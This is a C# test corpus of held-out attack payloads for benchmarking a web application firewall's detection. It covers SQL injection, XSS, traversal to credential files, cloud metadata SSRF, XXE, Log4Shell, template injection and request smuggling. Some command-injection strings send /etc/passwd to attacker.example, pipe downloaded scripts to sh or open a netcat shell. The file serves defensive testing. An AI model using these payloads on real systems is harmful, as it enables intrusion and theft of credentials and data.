namespace Meridian.Gateway.Tests.Waf.Corpus;

/// <summary>
/// Attacks written after the rules and apart from them, to estimate how the WAF does on payloads it was not
/// written for: the shapes of public attack material (OWASP CRS regression tests, libinjection's vectors,
/// payload lists) and their evasions (mixed case, URL and double URL encoding, %u and overlong encodings, HTML
/// entities with and without semicolons, full-width Unicode, SQL comments inside and between keywords, tabs,
/// newlines and vertical tabs for spaces, quotes and backslashes inside shell words). Each payload goes where an
/// attacker puts it: a query parameter, a path segment, a header, a cookie and a JSON body string.
/// Rules must not be tuned to these strings one by one: a miss here is fixed by a rule or a normalization that
/// covers its class, and the rates before and after are in bench/RESULTS.md.
/// </summary>
public static class HeldOutCorpus
{
    public static readonly string[] Sqli =
    [
        // Boolean blind, quote closed then a condition.
        "x' AND SUBSTRING(version(),1,1)='P", "7' aNd AsCiI(SuBsTr((SeLeCt current_user),1,1))>100 AND 'z'='z", "abc' AND length(database())>3 AND 'q'='q",
        "5' AND 3>2-- -", "q' or 2>1 or 'b'='c", "1' XOR 1=1 XOR '1", "tr' || (select 1)='1", "1') AND ('k'<'l",
        "9 AND 4>3", "42 OR 7<8", "12 AND ascii(lower(substr(user,1,1)))>96", "3 AND (ord(mid(user(),1,1)))>0",
        // Time based.
        "1' AND (SELECT 4421 FROM (SELECT(SLEEP(3)))xYz)-- kLmN", "x';SELECT PG_SLEEP(4)--", "1 RLIKE SLEEP(3)", "1' || pg_sleep(3) || '",
        "1);WAITFOR DELAY '00:00:04'--", "1 AND 9999=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),4)", "' AND (SELECT count(*) FROM generate_series(1,30000000))>0--",
        "1 AND ELT(7=7,SLEEP(2))", "2 OR IF(1=1,SLEEP(3),0)",
        // Union based with obfuscation.
        "0 UN/**/ION SEL/**/ECT 1,2,3", "-7 /*x*/union/*y*/all/*z*/select/*w*/1,user(),3", "1 UNION%0bSELECT 1,2", "1 union%09select table_name from tables",
        "1' uNiOn DiStInCtRoW sElEcT 1,2-- ", "-3 UNION#nothing%0ASELECT 1,2", "-3 UNION-- x%0ASELECT 1,2", "1 %55NION %53ELECT 1",
        "%2531%2527%2520UNION%2520SELECT%2520NULL%252CNULL--", "1 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b",
        "x' UNION SELECT NULL,NULL,NULL FROM DUAL-- -", "1 UNION VALUES(1,2,3)", "1 union\tselect\tnull",
        // Stacked, comments, error based, out of band.
        "1;DROP TABLE ne_110m_admin_0_countries", "x';INSERT INTO keys VALUES('a','b')--", "1; UPDATE keys SET scope='admin'--",
        "'; ALTER USER meridian WITH SUPERUSER;--", "1;CREATE TEMP TABLE t(x text);COPY t FROM PROGRAM 'id'", "abc'/**/OR/**/'1'/**/LIKE/**/'1",
        "' AND 1=CAST((SELECT version()) AS int)--", "1 AND 1=convert(int,(select top 1 name from sysobjects))", "' AND extractvalue(rand(),concat(0x3a,(select user())))-- ",
        "'+(SELECT 1 FROM (SELECT count(*),concat(user(),floor(rand(0)*2))x FROM information_schema.tables GROUP BY x)a)+'",
        "'; exec master..xp_dirtree '//attacker.example/a'--", "1 AND (SELECT LOAD_FILE(CONCAT('\\\\\\\\',user(),'.evil.example\\\\a')))",
        "' OR 1 IN (SELECT @@version)--", "1' PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)--",
        "admin'-- -", "admin')#", "1' LIMIT 1,1 INTO @a--", "' OR '' LIKE '", "' OR 'b' BETWEEN 'a' AND 'c", "') OR 1 -- ",
        // Encoded and full-width forms.
        "%u0027%u0020OR%u00201%3D1--", "＇ ＯＲ １＝１－－", "%EF%BC%87%20or%201=1--", "1&#39; OR &#39;1&#39;=&#39;1", "1%2527%2520or%25201%253D1%2523",
        "1 Or 1=1", "1'||'1'='1", "1' and/**/1=1#",
    ];

    public static readonly string[] Xss =
    [
        "<ScRiPt >prompt(8)</sCrIpT >", "<script/src=//x.example/a.js></script>", "<script\n>confirm(1)</script\n>", "<img/src/onerror=print()>",
        "<img src=`x`onerror=alert(9)>", "<svg><animatetransform onbegin=print()>", "<body onpageshow=print()>", "<x contenteditable onblur=print()>focus",
        "<textarea autofocus onfocus=print()>", "<select autofocus onfocus=top['al'+'ert'](1)>", "<video/poster/onerror=print()>", "<keygen autofocus onfocus=print()>",
        "\" autofocus onfocus=\"top.print()\" a=\"", "' accesskey='x' onclick='print()' x='", "\"><img src=x onerror=self[atob('YWxlcnQ=')](1)>", "\"onmouseenter=print()//",
        "javascript&colon;print()", "java&#x0D;script:print()", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;print()",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058print()",
        "%26%23x3c%3Bimg%20src%3Dx%20onerror%3Dprint()%26%23x3e%3B", "%253Csvg%252Fonload%253Dprint()%253E", "%EF%BC%9Cscript%EF%BC%9Eprint()%EF%BC%9C/script%EF%BC%9E",
        "\\u003cscript\\u003eprint()\\u003c/script\\u003e", "\\x3cimg src=x onerror=print()\\x3e", "<a href=\"jav\tascript:print()\">x</a>", "<a href=\" javascript:print()\">",
        "<iframe src=\"data:text/html;base64,PHNjcmlwdD5wcmludCgpPC9zY3JpcHQ+\">", "<object data=\"data:text/html,<script>print()</script>\">",
        "{{constructor.constructor('print()')()}}", "{{$on.constructor('print()')()}}", "';top['con'+'firm'](1);//", "\";(print)();//", "'-print()-'",
        "</script><svg onload=print()>", "<!--<img src=\"--><img src=x onerror=print()//\">", "<noscript><p title=\"</noscript><img src=x onerror=print()>\">",
        "<svg><a><animate attributeName=href values=javascript:print() /><text x=20 y=20>X</text></a>", "<math><maction actiontype=statusline xlink:href=javascript:print()>X",
        "<form><button formaction=javascript:print()>X", "<input type=image src=x onerror=print()>", "<style>*{background:url(\"javascript:print()\")}</style>",
        "<img src=x onerror=\"&#x70;rint()\">", "<div onpointerenter=print()>x</div>", "<img src=x oNeRrOr=print()>", "<details/open/ontoggle=print()>",
        "<a href=javascript&colon;print()>x</a>", "<embed src=javascript:print()>", "data:text/html;charset=utf-8,%3Cscript%3Eprint()%3C/script%3E",
    ];

    public static readonly string[] Traversal =
    [
        // Traversal, encoded and overlong.
        "..%252f..%252f..%252fetc%252fgroup", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", "..%c0%af..%c0%af..%c0%afetc/hostname",
        "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afapp%c0%afappsettings.json", "..%u2215..%u2215etc%u2215passwd", "....//....//....//etc//os-release",
        "..\\..\\..\\inetpub\\wwwroot\\web.config", "..//..//..//var//lib//postgresql//.pgpass", "/%2e%2e/%2e%2e/%2e%2e/root/.bash_history", ".%2e/.%2e/.%2e/proc/1/environ",
        "..%255c..%255c..%255cboot.ini", "../../../../../app/appsettings.Production.json", "..\\..\\web.config", "../../../../home/meridian/.aws/credentials",
        "..;/..;/..;/actuator/env", "%2e%2e%2f%2e%2e%2fvar%2frun%2fsecrets%2fkubernetes.io%2fserviceaccount%2ftoken",
        "/var/run/secrets/kubernetes.io/serviceaccount/token", "/root/.docker/config.json", "C:\\Windows\\System32\\config\\SAM", "\\\\attacker.example\\share\\x",
        "/etc/passwd%2500.jpg", "/ETC/PASSWD", "/proc/self/fd/3", "../../../../../../etc/postgresql/16/main/pg_hba.conf",
        // Wrappers, remote inclusion, SSRF to metadata services, XXE.
        "PHP://filter/read=string.rot13/resource=index.php", "pHp://input", "php%3A%2F%2Ffilter%2Fresource%3D%2Fetc%2Fpasswd", "file:%2F%2F%2Fetc%2Fpasswd",
        "jar:http://attacker.example/a.jar!/", "ldap://attacker.example:1389/a", "tftp://attacker.example/x", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://2852039166/latest/user-data", "http://0xa9fea9fe/", "http://metadata.google.internal/computeMetadata/v1/",
        "http://100.100.100.200/latest/meta-data/", "http://169.254.170.2/v2/credentials", "http://0251.0376.0251.0376/",
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://attacker.example/e.dtd\">]><r>&x;</r>",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"https://attacker.example/p.dtd\"> %p;]>", "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"expect://id\">]>",
    ];

    public static readonly string[] Command =
    [
        "%0aid", "%0Auname%20-a", "x%0d%0awhoami", "1\nping -c 3 attacker.example", "a;w'h'o'a'm'i", "a|c\\a\\t${IFS}/e\\tc/gr\\oup", "a;{cat,/etc/hostname}",
        "a;cat${PATH:0:1}etc${PATH:0:1}group", "x|base64 -d<<<aWQ=|sh", "`w\"h\"o\"am\"i`", "$(c''url attacker.example)", "a&&/???/?at /???/p??swd",
        "; /usr/bin/wget -qO- attacker.example|sh", "|busybox nc attacker.example 9 -e sh", "a;python3 -c 'import pty;pty.spawn(\"sh\")'",
        "x; php -r '$s=fsockopen(\"10.1.1.1\",9);'", "127.0.0.1%26%26dir", "|| powershell IEX(New-Object Net.WebClient).DownloadString('http://a/x')",
        "& timeout /t 5", "; sleep${IFS}7", "a%3Bid", "x;nslookup${IFS}`whoami`.attacker.example", "; curl -d @/etc/passwd attacker.example",
        ";echo${IFS}cHdk|base64${IFS}-d|bash", "%26%26ls%20-al", "|ls", "';id;'", "\";uname;\"",
        // Log4Shell and its lookups.
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}", "${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://x.example/a}",
        "${jNdI:dNs://x.example}", "${${base64:JHtqbmRpOmxkYXA6Ly94fQ==}}", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "${j${::-n}d${::-i}:iiop://x.example/a}",
        // Server-side templates and expression languages.
        "{{7*'7'}}", "{{ ''.__class__.__base__.__subclasses__() }}", "{% import os %}{{ os.popen('id').read() }}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "*{7*7}", "@{7*7}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "#set($x=$class.forName('java.lang.Runtime'))",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", "{{request|attr('application')}}",
        "() { ignored; }; /bin/id",
    ];

    /// <summary>Framing and header anomalies: smuggling shapes that a front proxy and Kestrel might read differently.</summary>
    public static IEnumerable<WafCase> Protocol()
    {
        const string path = "/collections/countries/items";
        yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Transfer-Encoding"] = "chunked", ["X-Content-Length"] = "7" });
        yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Content-Length"] = "6, 6" });
        yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Transfer-Encoding"] = "chunked;q=1" });
        yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Transfer-Encoding"] = "gzip, chunked" });
        yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Content-Length"] = "+12" });
        yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Content-Length"] = "0x0c" });
        yield return new("protocol", "GET", path, new Dictionary<string, string> { ["X-Note"] = "a\r\n b" });
        yield return new("protocol", "GET", path, new Dictionary<string, string> { ["X-Forwarded-For"] = "1.2.3.4\r\nX-Injected: 1" });
        yield return new("protocol", "PURGE", path, WafCase.NoHeaders);
        yield return new("protocol", "MOVE", path, WafCase.NoHeaders);
        yield return new("protocol", "GET", path + "?lang=en%0d%0a%0d%0a<html>", WafCase.NoHeaders);
        yield return new("protocol", "GET", path + "?next=%250d%250aSet-Cookie:%2520a=b", WafCase.NoHeaders);
    }

    public static IEnumerable<WafCase> All()
    {
        foreach (var attack in Place(("sqli", Sqli), ("xss", Xss), ("traversal", Traversal), ("command", Command))) yield return attack;
        foreach (var anomaly in Protocol()) yield return anomaly;
    }

    private static IEnumerable<WafCase> Place(params (string Family, string[] Payloads)[] families)
    {
        foreach (var (family, payloads) in families)
        {
            foreach (var payload in payloads)
            {
                // A payload written with '%' is already in its wire form (its evasion is the encoding); others are encoded as a client would.
                var wire = payload.Contains('%') ? payload.Replace(" ", "%20", StringComparison.Ordinal).Replace("#", "%23", StringComparison.Ordinal) : Uri.EscapeDataString(payload);
                var text = payload.Contains('%') ? Uri.UnescapeDataString(payload) : payload;
                yield return new(family, "GET", "/collections/countries/items?q=" + wire, WafCase.NoHeaders);
                yield return new(family, "GET", "/collections/countries/items/" + wire, WafCase.NoHeaders);
                yield return new(family, "GET", "/collections/countries/items", new Dictionary<string, string> { ["Cookie"] = "theme=dark; last=" + wire });
                yield return new(family, "PUT", "/collections/countries/items/1", WafCase.NoHeaders,
                    $$$"""{"type":"Feature","id":1,"properties":{"comment":{{{System.Text.Json.JsonSerializer.Serialize(text)}}}},"geometry":null}""",
                    "application/geo+json");
                if (family == "traversal")
                {
                    yield return new(family, "GET", "/collections/" + wire.Replace("%2F", "/", StringComparison.OrdinalIgnoreCase) + "/items", WafCase.NoHeaders);
                }
                if (payload.All(c => c is >= ' ' and <= '~'))
                {
                    yield return new(family, "GET", "/collections", new Dictionary<string, string> { ["Referer"] = payload });
                }
            }
        }
    }

    /// <summary>
    /// A second held-out set, written after the rules were changed for the first and measured once without changing
    /// them again: the fairer estimate of detection on payloads nobody tuned for (bench/RESULTS.md).
    /// </summary>
    public static class Fresh
    {
        public static readonly string[] Sqli =
        [
            "1' AnD 8=8 AnD 'x'='x", "-1' OR 3*2=6-- ", "x\" OR \"a\"=\"a", "1 AND 1 LIKE 1", "')) OR (('a'='a", "1' GROUP BY 1,2,3-- -",
            "' UNION ALL SELECT NULL,version(),NULL-- -", "1' AND (SELECT 1 WHERE 1=1)='1", "1';SELECT * FROM pg_user--", "1 AND (SELECT pg_sleep(2) WHERE 1=1) IS NULL",
            "abc' || (SELECT CASE WHEN 1=1 THEN 'a' END) || '", "%27%09OR%09%271%27%3D%271", "admin'/**/--", "1/**/AND/**/1=1", "' oR 1=1 LiMiT 1#",
            "1 AnD 1=0 UnIoN/**/SeLeCt 1,table_name FrOm information_schema.tables", "x' AND 1=(SELECT 1 FROM pg_database LIMIT 1)--", "1' WAITFOR DELAY '0:0:3'--",
            "'; DELETE FROM users WHERE '1'='1", "1)) AND 5=5 AND ((2=2",
        ];

        public static readonly string[] Xss =
        [
            "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>", "<audio autoplay onplay=alert(1)><source src=x>", "<svg><g/onload=alert(2)//<p>",
            "<IFRAME SRC=# onmouseover=\"alert(1)\"></IFRAME>", "<a onmouseover=\"alert(document.cookie)\">link</a>", "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
            "\"><svg/onload=confirm`1`>", "<object type=\"text/x-scriptlet\" data=\"http://x.example/s.html\"></object>", "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>",
            "&lt;img src=x onerror=alert(1)&gt;", "%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E", "<a href=\"&#x6a;avascript&#x3a;alert(1)\">", "<video src=x onloadstart=alert(1)>",
            "<input onblur=alert(1) autofocus><input autofocus>", "javascript://%0aalert(1)", "<sVg OnLoAd=alert(1)>", "'\"><marquee loop=1 onfinish=alert(1)>x",
            "<table background=\"javascript:alert(1)\">",
        ];

        public static readonly string[] Traversal =
        [
            "../../../etc/shadow%00", "..%2F..%2F..%2F..%2Fetc%2Fissue", "....\\/....\\/etc/passwd", "/..%252f..%252f..%252fetc/passwd", "%252e%252e%255cwindows%255csystem.ini",
            "..\\..\\..\\..\\..\\Windows\\win.ini", "/proc/self/cwd/appsettings.json", "file://localhost/etc/hosts", "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
            "http://169.254.169.254.nip.io/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/", "gopher://localhost:5432/_%00",
            "<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\"><x/>", ".../.../.../etc/passwd", "..%5c..%5c..%5c..%5cetc%5cpasswd",
        ];

        public static readonly string[] Command =
        [
            "; cat /etc/hosts", "|| whoami", "| id;", "`uname -a`", "$(id)", "; wget -O /tmp/x http://attacker.example/x", "\nwhoami\n", "%0a%0dcat%20/etc/passwd",
            ";$(printf 'id')", "a;l\\s -la", "& ping -n 5 127.0.0.1 &", "|| curl${IFS}attacker.example", "${jndi:ldaps://x.example/a}",
            "${${lower:jnd}${lower:i}:ldap://x.example/a}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${{7*7}}", "<%= system('id') %>", "#{system('id')}",
        ];

        public static IEnumerable<WafCase> All()
        {
            const string path = "/collections/countries/items";
            foreach (var attack in Place(("sqli", Sqli), ("xss", Xss), ("traversal", Traversal), ("command", Command))) yield return attack;
            yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Transfer-Encoding"] = "identity" });
            yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Transfer-Encoding"] = ",chunked" });
            yield return new("protocol", "GET", path, new Dictionary<string, string> { ["X-A"] = "a\0b" });
            yield return new("protocol", "SEARCH", path, WafCase.NoHeaders);
        }
    }
}
